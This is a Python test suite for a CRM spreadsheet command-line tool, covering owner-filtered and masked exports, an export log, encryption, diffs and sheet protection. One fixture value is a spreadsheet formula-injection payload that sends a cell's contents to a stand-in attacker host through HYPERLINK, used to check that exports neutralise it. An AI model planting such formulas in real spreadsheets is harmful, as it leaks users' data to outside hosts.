"""Exports, encryption and diff as a user runs them: from the command line, outputs read back."""

from __future__ import annotations

import csv
import datetime as dt
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from crm_xl.ports.template import write_register
from crm_xl.register import Register

from conftest import sha256

INJECTION = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    import os

    return subprocess.run([sys.executable, "-m", "crm_xl", *args], capture_output=True, text=True, timeout=120,
                          env={**os.environ, **(env or {})})


def records() -> dict:
    base = {"source_channel": "trade_fair", "first_contact_date": "2026-03-02", "entered_date": "2026-03-03",
            "status": "active", "country": "DE"}
    return {
        "customers": [
            {**base, "customer_id": "C1", "company_name": "Müller GmbH", "owner": "张伟", "address": "Hauptstraße 5, Berlin"},
            {**base, "customer_id": "C2", "company_name": INJECTION, "owner": "李娜", "address": "1 Main St"},
            {**base, "customer_id": "C3", "company_name": "Rossi S.r.l.", "owner": "张伟", "country": "IT"},
        ],
        "contacts": [
            {"contact_id": "P1", "customer_id": "C1", "name": "Hans", "phone": "+86 138 1234 5678", "email": "hans@mueller.de", "wechat": "hans_wx"},
            {"contact_id": "P2", "customer_id": "C2", "name": "Bob", "phone": "+1 202 555 0143", "email": "bob@acme.com"},
            {"contact_id": "P3", "customer_id": "C3", "name": "=1+1", "phone": "+39 06 1234 5678", "email": "g@rossi.it"},
        ],
        "orders": [
            {"order_id": "SO1", "customer_id": "C1", "order_date": "2026-05-01", "product": "LED", "quantity": 10, "unit_price": 5,
             "currency": "EUR", "amount": 50, "status": "closed", "owner": "张伟"},
            {"order_id": "SO2", "customer_id": "C2", "order_date": "2026-05-01", "product": "LED", "quantity": 1, "unit_price": 5,
             "currency": "EUR", "amount": 5, "status": "closed", "owner": "李娜"},
        ],
    }


@pytest.fixture
def book(tmp_path) -> Path:
    path = tmp_path / "register.xlsx"
    write_register(path, Register.from_records(records()))
    return path


def sheet_values(path: Path, sheet: str) -> list[list]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python()


def test_owner_export_has_no_other_owners_rows(book, tmp_path):
    before = sha256(book)
    out = tmp_path / "zhang.xlsx"
    r = cli("export", str(book), "--owner", "张伟", "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert sha256(book) == before
    customers = sheet_values(out, "客户")[1:]
    assert {row[0] for row in customers} == {"C1", "C3"}
    assert all(row[9] == "张伟" for row in customers)
    assert {row[1] for row in sheet_values(out, "联系人")[1:]} == {"C1", "C3"}
    assert {row[0] for row in sheet_values(out, "订单")[1:]} == {"SO1"}
    assert "李娜" not in str(sheet_values(out, "订单")) and "bob@acme.com" not in str(sheet_values(out, "联系人"))


def test_masked_export_refused_without_approval(book, tmp_path):
    out = tmp_path / "m.xlsx"
    r = cli("export", str(book), "--mask", "--out", str(out))
    assert r.returncode == 1 and "审批" in r.stderr and not out.exists()


def test_masked_export_masks_and_logs(book, tmp_path):
    out = tmp_path / "share" / "m.xlsx"
    r = cli("export", str(book), "--mask", "--approval", "审批-2026-031", "--out", str(out))
    assert r.returncode == 0, r.stderr
    contacts = sheet_values(out, "联系人")
    header = contacts[0]
    phone, email, wechat = header.index("电话"), header.index("电子邮箱"), header.index("微信")
    first = contacts[1]
    assert first[phone] == "+86 138****5678" and first[email] == "h***@mueller.de"
    assert first[wechat] == "h***"
    assert "Hauptstraße 5, Berlin" not in str(sheet_values(out, "客户"))
    # the log stays with the register, not in the folder being shared
    assert not (out.parent / "crm-xl-exports.csv").exists()
    log = list(csv.reader((book.parent / "crm-xl-exports.csv").open(encoding="utf-8-sig")))
    assert log[0][:5] == ["at", "user", "source", "output", "approval"]
    assert log[1][4] == "审批-2026-031" and log[1][6] == "yes"
    # a second export (over crm-xl's own earlier one) appends, never rewrites the log, leaves no backup
    assert cli("export", str(book), "--mask", "--approval", "A-2", "--out", str(out)).returncode == 0
    log = list(csv.reader((book.parent / "crm-xl-exports.csv").open(encoding="utf-8-sig")))
    assert [row[4] for row in log[1:]] == ["审批-2026-031", "A-2"]
    assert sorted(p.name for p in out.parent.iterdir()) == ["m.xlsx"]


def test_formula_injection_never_becomes_a_formula(book, tmp_path):
    out_x = tmp_path / "all.xlsx"
    out_c = tmp_path / "csv"
    assert cli("export", str(book), "--owner", "李娜", "--out", str(out_x)).returncode == 0
    ws = openpyxl.load_workbook(out_x)["客户"]
    cell = [c for row in ws.iter_rows() for c in row if c.value == INJECTION][0]
    assert cell.data_type == "s"
    assert cli("export", str(book), "--format", "csv", "--owner", "张伟", "--out", str(out_c)).returncode == 0
    text = (out_c / "contacts.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1" in text and ",=1+1" not in text
    assert (out_c / "contacts.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_encrypt_decrypt_round_trip_and_wrong_password(book, tmp_path):
    enc, dec = tmp_path / "enc.xlsx", tmp_path / "dec.xlsx"
    assert cli("encrypt", str(book), "--out", str(enc), env={"CRM_XL_PASSWORD": "s3cret"}).returncode == 0
    r = cli("export", str(enc), "--owner", "张伟", "--out", str(tmp_path / "x.xlsx"), env={"CRM_XL_PASSWORD": ""})
    assert r.returncode == 2 and "密码" in r.stderr and "Traceback" not in r.stderr
    r = cli("decrypt", str(enc), "--out", str(dec), "--password", "wrong")
    assert r.returncode == 2 and "密码错误" in r.stderr and not dec.exists()
    assert cli("decrypt", str(enc), "--out", str(dec), "--password", "s3cret").returncode == 0
    assert sheet_values(dec, "客户") == sheet_values(book, "客户")


def test_export_never_replaces_another_owners_file_nor_keeps_backups(book, tmp_path):
    out = tmp_path / "share" / "o.xlsx"
    assert cli("export", str(book), "--owner", "张伟", "--out", str(out)).returncode == 0
    first = sha256(out)
    r = cli("export", str(book), "--owner", "李娜", "--out", str(out))
    assert r.returncode == 2 and "o.xlsx" in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert sha256(out) == first
    # the same owner again replaces its own export, and no backup copy is left in the shared folder
    assert cli("export", str(book), "--owner", "张伟", "--out", str(out)).returncode == 0
    # only the export and its own merge bases (crm-xl merge), never a backup
    assert sorted(p.name for p in out.parent.iterdir()) == [".crm-xl-bases", "o.xlsx"]
    # a file crm-xl did not write is never replaced
    other = tmp_path / "share" / "notes.xlsx"
    other.write_bytes(book.read_bytes())
    assert cli("export", str(book), "--owner", "张伟", "--out", str(other)).returncode == 2
    assert sha256(other) == sha256(book)


def test_diff_flags_changes_without_a_logged_reason(book, tmp_path):
    recs = records()
    recs["customers"][0]["company_name"] = "Müller Technik GmbH"
    recs["customers"][2]["country"] = "FR"
    recs["customers"].append({**recs["customers"][2], "customer_id": "C4", "company_name": "Neu AG"})
    recs["changelog"] = [{"at": dt.datetime(2026, 11, 20, 10), "user": "张伟", "sheet": "客户", "record_id": "C1",
                          "column": "公司名称", "old_value": "Müller GmbH", "new_value": "Müller Technik GmbH",
                          "reason": "客户更名"}]
    new = tmp_path / "new.xlsx"
    write_register(new, Register.from_records(recs))
    out = tmp_path / "diff.json"
    r = cli("diff", str(book), str(new), "--out", str(out), "--lang", "en")
    assert r.returncode == 1
    import json

    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["summary"] == {"added": 1, "removed": 0, "changed_cells": 2, "unexplained": 1}
    by_record = {c["record_id"]: c for c in data["changed"]}
    assert by_record["C1"]["logged"] is True and by_record["C1"]["reason"] == "客户更名"
    assert by_record["C3"]["logged"] is False and by_record["C3"]["old"] == "IT" and by_record["C3"]["new"] == "FR"


def test_protected_register_locks_derived_columns_only(tmp_path):
    out = tmp_path / "p.xlsx"
    r = cli("new", str(out), "--protect", env={"CRM_XL_PROTECT_PASSWORD": "guard"})
    assert r.returncode == 0, r.stderr
    wb = openpyxl.load_workbook(out)
    assert wb["客户"].protection.sheet and wb["客户"].protection.password  # only Excel's hash is stored
    assert "guard" not in out.read_bytes().decode("latin-1")
    assert wb["Lists"].protection.sheet
    filled = tmp_path / "filled.xlsx"
    write_register(filled, Register.from_records(records()), protect="guard")
    ws = openpyxl.load_workbook(filled)["客户"]
    header = [c.value for c in ws[1]]
    name_col, scale_col = header.index("公司名称") + 1, header.index("规模分类") + 1
    assert ws.cell(2, name_col).protection.locked is False  # input column editable
    assert ws.cell(2, scale_col).protection.locked is not False  # derived column locked
    r = cli("new", str(tmp_path / "q.xlsx"), "--protect", env={"CRM_XL_PROTECT_PASSWORD": ""})
    assert r.returncode == 2 and "CRM_XL_PROTECT_PASSWORD" in r.stderr


def test_input_limits_refuse_and_can_be_raised(book, tmp_path):
    small = cli("--max-cells", "10", "export", str(book), "--owner", "张伟", "--out", str(tmp_path / "x.xlsx"))
    assert small.returncode == 2 and "--max-cells" in small.stderr
    ok = cli("--max-cells", "100000", "export", str(book), "--owner", "张伟", "--out", str(tmp_path / "x.xlsx"))
    assert ok.returncode == 0, ok.stderr
